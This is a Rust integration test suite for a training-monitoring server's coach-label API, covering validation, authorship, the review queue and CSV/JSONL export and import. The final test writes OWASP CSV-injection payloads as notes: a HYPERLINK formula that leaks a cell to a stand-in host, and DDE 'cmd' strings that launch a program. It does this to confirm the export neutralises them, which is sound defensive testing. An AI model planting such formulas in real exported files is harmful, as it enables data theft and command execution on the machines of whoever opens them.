use std::process::Command;

use forma_core::api::{ApiError, AthleteStatus, AuditEntry, NewAccount, Role, SeriesResponse};
use forma_core::labels::{Label, LabelQueue, QueueItem};
use forma_core::overview::attention;
use serde_json::json;

use crate::helpers::TestServer;

const SECOND_COACH: (&str, &str) = ("second@demo.forma", "second-coach-password");

async fn post(
    server: &TestServer,
    client: &reqwest::Client,
    athlete: &str,
    body: &serde_json::Value,
) -> reqwest::Response {
    client
        .post(server.url(&format!("/api/athletes/{athlete}/labels")))
        .json(body)
        .send()
        .await
        .expect("request")
}

async fn labels_of(server: &TestServer, athlete: &str) -> Vec<Label> {
    server
        .get_json(&format!("/api/athletes/{athlete}/labels"))
        .await
}

async fn second_coach(server: &TestServer) -> reqwest::Client {
    server
        .create_account(NewAccount {
            email: SECOND_COACH.0.to_owned(),
            password: SECOND_COACH.1.to_owned(),
            role: Role::Coach,
            display_name: Some("Second Coach".to_owned()),
            teams: vec!["demo".to_owned()],
            athlete_id: None,
        })
        .await;
    server.sign_in(SECOND_COACH.0, SECOND_COACH.1).await.client
}

#[tokio::test]
async fn a_retry_with_the_same_id_stores_one_label_and_answers_with_the_stored_one() {
    let server = TestServer::start_with_demo().await;
    let label = json!({"id": "retry-label-0001", "date": "2020-03-02", "code": "fatigue", "note": "heavy legs"});

    let first = post(&server, &server.client, "p03", &label).await;
    let first_status = first.status();
    let first: Label = first.json().await.expect("label");
    let retry = post(&server, &server.client, "p03", &label).await;
    let retry_status = retry.status();
    let retry: Label = retry.json().await.expect("label");

    assert_eq!((first_status.as_u16(), retry_status.as_u16()), (201, 200));
    assert_eq!(retry, first, "the retry answers with the stored label");
    assert_eq!(first.author, "coach@demo.forma");
    assert_eq!(first.author_name, "Demo Coach");
    assert_eq!(first.vocabulary_version, "forma-labels-1");
    assert_eq!(
        labels_of(&server, "p03").await,
        std::slice::from_ref(&first)
    );
    let audit: Vec<AuditEntry> = server.get_json("/api/audit?athlete=p03").await;
    let writes: Vec<&AuditEntry> = audit.iter().filter(|e| e.entity == "label").collect();
    assert_eq!(writes.len(), 1, "one audit entry for one label");
    assert_eq!(writes[0].action, "create");

    // The same id for another athlete is a conflict, not a second label.
    let elsewhere = post(&server, &server.client, "p04", &label).await;
    assert_eq!(elsewhere.status(), 409);
    assert!(labels_of(&server, "p04").await.is_empty());
    let _ = server.stop().await;
}

#[tokio::test]
async fn two_coaches_labelling_the_same_day_keep_both_labels_with_their_authors() {
    let server = TestServer::start_with_demo().await;
    let second = second_coach(&server).await;

    let mine = post(
        &server,
        &server.client,
        "p05",
        &json!({"id": "coach-one-0001", "date": "2020-02-03", "code": "travel"}),
    )
    .await;
    let theirs = post(
        &server,
        &second,
        "p05",
        &json!({"id": "coach-two-0001", "date": "2020-02-03", "code": "fatigue"}),
    )
    .await;
    assert_eq!(
        (mine.status().as_u16(), theirs.status().as_u16()),
        (201, 201)
    );

    let both = labels_of(&server, "p05").await;
    let authors: Vec<(&str, &str, &str)> = both
        .iter()
        .map(|l| (l.code.as_str(), l.author.as_str(), l.author_name.as_str()))
        .collect();
    assert_eq!(
        authors,
        [
            ("travel", "coach@demo.forma", "Demo Coach"),
            ("fatigue", SECOND_COACH.0, "Second Coach")
        ]
    );

    // Only its author takes a label back.
    let url = server.url("/api/athletes/p05/labels/coach-two-0001");
    let refused = server.client.delete(&url).send().await.expect("request");
    assert_eq!(refused.status(), 403);
    let error: ApiError = refused.json().await.expect("error body");
    assert!(error.message.contains("Second Coach"), "{}", error.message);
    let undo = second.delete(&url).send().await.expect("request");
    assert_eq!(undo.status(), 204);
    let again = second.delete(&url).send().await.expect("request");
    assert_eq!(again.status(), 204, "taking back twice is harmless");
    assert_eq!(labels_of(&server, "p05").await.len(), 1);

    // A late retry of the label taken back does not bring it back.
    let late = post(
        &server,
        &second,
        "p05",
        &json!({"id": "coach-two-0001", "date": "2020-02-03", "code": "fatigue"}),
    )
    .await;
    assert_eq!(late.status(), 200);
    let late: Label = late.json().await.expect("label");
    assert!(late.deleted_at.is_some());
    assert_eq!(labels_of(&server, "p05").await.len(), 1);
    let missing = second
        .delete(server.url("/api/athletes/p05/labels/no-such-label"))
        .send()
        .await
        .expect("request");
    assert_eq!(missing.status(), 404);
    let audit: Vec<AuditEntry> = server.get_json("/api/audit?athlete=p05").await;
    let actions: Vec<&str> = audit
        .iter()
        .filter(|e| e.entity == "label")
        .map(|e| e.action.as_str())
        .collect();
    assert_eq!(actions, ["create", "create", "delete"]);
    let _ = server.stop().await;
}

#[tokio::test]
async fn a_label_the_server_cannot_accept_names_the_field() {
    let server = TestServer::start_with_demo().await;
    let sessions: Vec<forma_core::api::SessionRecord> =
        server.get_json("/api/athletes/p07/sessions").await;
    let session = &sessions[0];
    let other_day = forma_core::types::date_from_epoch_day(
        forma_core::types::epoch_day(session.session.date) + 1,
    );
    let cases = [
        (
            json!({"id": "short", "date": "2020-02-03", "code": "travel"}),
            "id",
        ),
        (
            json!({"id": "label-field-01", "date": "2020-02-30", "code": "travel"}),
            "date",
        ),
        (
            json!({"id": "label-field-02", "date": "2020-02-03", "code": "jetlag"}),
            "code",
        ),
        (
            json!({"id": "label-field-03", "date": "2020-02-03", "code": "other"}),
            "note",
        ),
        (
            json!({"id": "label-field-04", "date": "2020-02-03", "end_date": "2020-02-01", "code": "travel"}),
            "end_date",
        ),
        (
            json!({"id": "label-field-05", "date": other_day.to_string(), "session_id": session.id, "code": "fatigue"}),
            "session_id",
        ),
        (
            json!({"id": "label-field-06", "date": session.session.date.to_string(), "session_id": session.id, "end_date": other_day.to_string(), "code": "fatigue"}),
            "end_date",
        ),
    ];
    for (body, field) in cases {
        let response = post(&server, &server.client, "p07", &body).await;
        assert_eq!(response.status(), 422, "{body}");
        let error: ApiError = response.json().await.expect("error body");
        assert_eq!(error.field.as_deref(), Some(field), "{}", error.message);
        assert!(error.message.starts_with(field), "{}", error.message);
    }
    let on_session = json!({"id": "label-field-07", "date": session.session.date.to_string(), "session_id": session.id, "code": "device_or_data_issue"});
    assert_eq!(
        post(&server, &server.client, "p07", &on_session)
            .await
            .status(),
        201
    );
    assert_eq!(
        labels_of(&server, "p07").await.len(),
        1,
        "nothing else was stored"
    );
    let _ = server.stop().await;
}

#[tokio::test]
async fn labels_change_what_forma_says() {
    let server = TestServer::start_with_demo().await;
    let status = |statuses: &[AthleteStatus], id: &str| {
        statuses
            .iter()
            .find(|s| s.athlete.id.as_str() == id)
            .cloned()
            .expect("athlete")
    };
    // p07's ratio on the team's day (2020-03-31) is low: a detraining flag...
    let before: Vec<AthleteStatus> = server.get_json("/api/teams/demo/athletes").await;
    let p07 = status(&before, "p07");
    assert!(p07.acwr.is_some_and(|r| r < 0.8), "{:?}", p07.acwr);
    assert!(attention(&p07)
        .reasons
        .iter()
        .any(|r| r.contains("detraining")));
    // ...until the coach says the low week was planned.
    let deload = json!({"id": "deload-p07-01", "date": "2020-03-23", "end_date": "2020-03-29", "code": "intentional_deload"});
    assert_eq!(
        post(&server, &server.client, "p07", &deload).await.status(),
        201
    );
    let after: Vec<AthleteStatus> = server.get_json("/api/teams/demo/athletes").await;
    let p07 = status(&after, "p07");
    assert!(p07.intentional_deload);
    assert!(!attention(&p07)
        .reasons
        .iter()
        .any(|r| r.contains("detraining")));
    assert!(!status(&after, "p02").intentional_deload);

    // A device issue shades its days in the series and leaves them out of training.
    let pool = server.pool().await;
    let gathered = forma_server::training::gather(&pool, &["demo".to_owned()])
        .await
        .expect("gather");
    let p08_sessions = |inputs: &forma_server::training::TrainingInputs| {
        inputs
            .sessions
            .iter()
            .filter(|s| s.athlete_id.as_str() == "p08" && s.date.to_string().starts_with("2020-02"))
            .count()
    };
    assert!(p08_sessions(&gathered) > 0);
    let issue = json!({"id": "device-p08-01", "date": "2020-02-01", "end_date": "2020-02-29", "code": "device_or_data_issue", "note": "watch strap broken"});
    assert_eq!(
        post(&server, &server.client, "p08", &issue).await.status(),
        201
    );
    let series: SeriesResponse = server
        .get_json("/api/athletes/p08/series?from=2020-01-30&to=2020-03-02")
        .await;
    let flagged: Vec<String> = series
        .dates
        .iter()
        .zip(&series.unreliable)
        .filter(|(_, u)| **u)
        .map(|(d, _)| d.to_string())
        .collect();
    assert_eq!(flagged.len(), 29);
    assert_eq!(flagged.first().map(String::as_str), Some("2020-02-01"));
    let plain: SeriesResponse = server.get_json("/api/athletes/p02/series").await;
    assert!(
        plain.unreliable.is_empty(),
        "no flags without a device issue"
    );
    let gathered = forma_server::training::gather(&pool, &["demo".to_owned()])
        .await
        .expect("gather");
    assert_eq!(p08_sessions(&gathered), 0);

    // Illness and injury labels reach the model's targets as one report per day.
    let illness = json!({"id": "illness-p08-01", "date": "2020-03-10", "end_date": "2020-03-12", "code": "illness"});
    assert_eq!(
        post(&server, &server.client, "p08", &illness)
            .await
            .status(),
        201
    );
    let gathered = forma_server::training::gather(&pool, &["demo".to_owned()])
        .await
        .expect("gather");
    let reports: Vec<String> = gathered
        .labels
        .iter()
        .filter(|l| l.athlete_id.as_str() == "p08" && l.is_adverse())
        .map(|l| l.date.to_string())
        .collect();
    assert_eq!(reports, ["2020-03-10", "2020-03-11", "2020-03-12"]);
    pool.close().await;
    let _ = server.stop().await;
}

async fn queue(server: &TestServer, query: &str) -> LabelQueue {
    server
        .get_json(&format!("/api/labels/queue?team=demo{query}"))
        .await
}

#[tokio::test]
async fn the_queue_puts_what_most_needs_a_label_first_and_shows_the_labels_given() {
    let server = TestServer::start_with_demo().await;
    let before = queue(&server, "").await;
    assert!(before.items.len() >= 40, "{} items", before.items.len());
    assert!(before.items.iter().all(|i| i.labels.is_empty()));
    assert!(before
        .items
        .iter()
        .any(|i| i.kind == forma_core::labels::QueueKind::UnlabelledEvent));
    for pair in before.items.windows(2) {
        assert!(pair[0].priority >= pair[1].priority);
    }
    let first: &QueueItem = &before.items[0];
    let label = first.new_label(
        "queue-label-0001".into(),
        forma_core::labels::LabelCode::Fatigue,
        None,
    );
    let athlete = first.athlete_id.to_string();
    let body = serde_json::to_value(&label).expect("json");
    assert_eq!(
        post(&server, &server.client, &athlete, &body)
            .await
            .status(),
        201
    );

    let after = queue(&server, "").await;
    let labelled = after
        .items
        .iter()
        .position(|i| i.key == first.key)
        .expect("the item is still in the queue");
    assert_eq!(after.items[labelled].labels.len(), 1);
    assert_eq!(after.items[labelled].labels[0].author_name, "Demo Coach");
    assert!(
        after.items[..labelled].iter().all(|i| i.labels.is_empty()),
        "unlabelled first"
    );

    let one = queue(&server, "&athlete=p07&limit=3").await;
    assert!(one.items.len() <= 3);
    assert!(one.items.iter().all(|i| i.athlete_id.as_str() == "p07"));
    let unknown = server
        .client
        .get(server.url("/api/labels/queue?team=demo&athlete=q99"))
        .send()
        .await
        .expect("request");
    assert_eq!(unknown.status(), 404);
    let _ = server.stop().await;
}

fn forma(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_forma"))
        .args(args)
        .env("RUST_LOG", "warn")
        .output()
        .expect("the forma binary runs")
}

#[tokio::test]
async fn the_exported_file_imports_into_a_fresh_database_as_the_same_labels() {
    let server = TestServer::start_with_demo().await;
    let second = second_coach(&server).await;
    let sessions: Vec<forma_core::api::SessionRecord> =
        server.get_json("/api/athletes/p04/sessions").await;
    let writes = [
        (
            &server.client,
            "p04",
            json!({"id": "trip-p04-0001", "date": "2020-01-06", "end_date": "2020-01-12", "code": "travel", "note": "Camp in \"Spain\", by bus\nand plane"}),
        ),
        (
            &second,
            "p04",
            json!({"id": "trip-p04-0002", "date": "2020-01-08", "code": "fatigue"}),
        ),
        (
            &server.client,
            "p04",
            json!({"id": "sess-p04-0001", "date": sessions[3].session.date.to_string(), "session_id": sessions[3].id, "code": "device_or_data_issue"}),
        ),
        (
            &server.client,
            "p09",
            json!({"id": "other-p09-01", "date": "2020-02-20", "code": "other", "note": "moved house"}),
        ),
        (
            &server.client,
            "p09",
            json!({"id": "undone-p09-1", "date": "2020-02-21", "code": "illness"}),
        ),
    ];
    for (client, athlete, body) in &writes {
        assert_eq!(
            post(&server, client, athlete, body).await.status(),
            201,
            "{body}"
        );
    }
    let undo = server
        .client
        .delete(server.url("/api/athletes/p09/labels/undone-p09-1"))
        .send()
        .await
        .expect("request");
    assert_eq!(undo.status(), 204);

    let out = tempfile::tempdir().expect("temp dir");
    let data_dir = server.data_dir.path().to_str().expect("utf-8").to_owned();
    for format in ["csv", "jsonl"] {
        let file = out.path().join(format!("labels.{format}"));
        let file = file.to_str().expect("utf-8");
        let exported = forma(&[
            "export",
            "labels",
            "--format",
            format,
            "--out",
            file,
            "--data-dir",
            &data_dir,
        ]);
        assert!(
            exported.status.success(),
            "{}",
            String::from_utf8_lossy(&exported.stderr)
        );
        let api = server
            .client
            .get(server.url(&format!("/api/labels/export?format={format}")))
            .send()
            .await
            .expect("request");
        assert_eq!(
            api.headers()["x-forma-vocabulary-version"],
            "forma-labels-1"
        );
        assert!(api.headers()[reqwest::header::CONTENT_DISPOSITION]
            .to_str()
            .expect("text")
            .contains(&format!("forma-labels-forma-labels-1.{format}")));
        let api = api.text().await.expect("body");
        let cli = std::fs::read_to_string(file).expect("exported");
        assert_eq!(
            api, cli,
            "the API and the command line write the same {format} file"
        );
        assert_eq!(
            cli.matches("trip-p04-0001").count(),
            7,
            "a row per day of the range"
        );
        assert!(
            !cli.contains("undone-p09-1"),
            "a label taken back is not exported"
        );
        assert!(cli.contains("forma-labels-1"));
    }
    let original: Vec<Vec<Label>> = {
        let mut all = Vec::new();
        for athlete in ["p04", "p09"] {
            all.push(labels_of(&server, athlete).await);
        }
        all
    };
    let _ = server.stop().await;

    for format in ["csv", "jsonl"] {
        let fresh = TestServer::start_with_demo().await;
        let fresh_dir = fresh.data_dir.path().to_str().expect("utf-8").to_owned();
        let file = out.path().join(format!("labels.{format}"));
        let file = file.to_str().expect("utf-8");
        let imported = forma(&["import", "labels", file, "--data-dir", &fresh_dir]);
        let said = String::from_utf8_lossy(&imported.stdout).into_owned();
        assert!(
            imported.status.success(),
            "{said}{}",
            String::from_utf8_lossy(&imported.stderr)
        );
        assert!(said.contains("4 added"), "{said}");
        let again = forma(&["import", "labels", file, "--data-dir", &fresh_dir]);
        let said = String::from_utf8_lossy(&again.stdout).into_owned();
        assert!(
            said.contains("0 added") && said.contains("4 already stored"),
            "{said}"
        );

        for (athlete, before) in ["p04", "p09"].iter().zip(&original) {
            let after = labels_of(&fresh, athlete).await;
            let same = |labels: &[Label]| -> Vec<Label> {
                labels
                    .iter()
                    .map(|l| Label {
                        // The second coach has no account in the fresh database.
                        author_name: String::new(),
                        ..l.clone()
                    })
                    .collect()
            };
            assert_eq!(same(&after), same(before), "{format}: {athlete}'s labels");
        }
        let demo_coach = labels_of(&fresh, "p04").await;
        assert_eq!(
            demo_coach[0].author_name, "Demo Coach",
            "a known author is linked to the account"
        );
        let re_exported = fresh
            .client
            .get(fresh.url(&format!("/api/labels/export?format={format}")))
            .send()
            .await
            .expect("request")
            .text()
            .await
            .expect("body");
        assert_eq!(
            re_exported,
            std::fs::read_to_string(file).expect("file"),
            "{format} round trip"
        );
        let _ = fresh.stop().await;
    }

    // A file that cannot be read stores nothing and says where and why.
    let bad = out.path().join("bad.csv");
    std::fs::write(
        &bad,
        "athlete_id,date,code,vocabulary_version,author,created_at\np04,2020-01-06,jetlag,forma-labels-1,c@x,2020-01-08T07:00:00Z\n",
    )
    .expect("write");
    let empty = tempfile::tempdir().expect("temp dir");
    let refused = forma(&[
        "import",
        "labels",
        bad.to_str().expect("utf-8"),
        "--data-dir",
        empty.path().to_str().expect("utf-8"),
    ]);
    assert!(!refused.status.success());
    let said = String::from_utf8_lossy(&refused.stdout);
    assert!(said.contains("line 2") || said.contains(":2"), "{said}");
    assert!(said.contains("code") && said.contains("jetlag"), "{said}");
}

/// OWASP's CSV injection list, one note per character: each comes out of the
/// export as text (a `'` in front), and reads back as it was written.
#[tokio::test]
async fn notes_that_start_like_a_formula_are_exported_as_text() {
    let server = TestServer::start_with_demo().await;
    let notes = [
        ("=", "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")"),
        ("+", "+cmd|' /C calc'!A0"),
        ("-", "-2+3+cmd|' /C calc'!A0"),
        ("@", "@SUM(1+1)"),
        // Notes are stored trimmed, so a leading tab or carriage return never
        // reaches the file; what follows it is neutralised as well.
        ("tab", "\t=1+1"),
        ("cr", "\r@SUM(1+1)"),
    ];
    for (i, (name, note)) in notes.iter().enumerate() {
        let body = json!({"id": format!("formula-000{i}"), "date": format!("2020-02-0{}", i + 1), "code": "other", "note": note});
        assert_eq!(
            post(&server, &server.client, "p04", &body).await.status(),
            201,
            "{name}"
        );
    }
    let csv = server
        .client
        .get(server.url("/api/labels/export?format=csv"))
        .send()
        .await
        .expect("request")
        .text()
        .await
        .expect("body");
    let exported =
        forma_core::labels::read_labels("labels.csv", &csv, forma_core::labels::LabelFormat::Csv)
            .expect("the export reads back");
    for (name, note) in notes {
        let stored = note.trim();
        let written = if stored.contains(['"', ',']) {
            format!(",\"'{}\",", stored.replace('"', "\"\""))
        } else {
            format!(",'{stored},")
        };
        assert!(csv.contains(&written), "{name}: {written} in\n{csv}");
        assert!(
            exported
                .iter()
                .any(|label| label.note.as_deref() == Some(stored)),
            "{name} reads back as {stored}"
        );
    }
    for line in csv.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell opens as a formula: {line}"
            );
        }
    }
    let _ = server.stop().await;
}
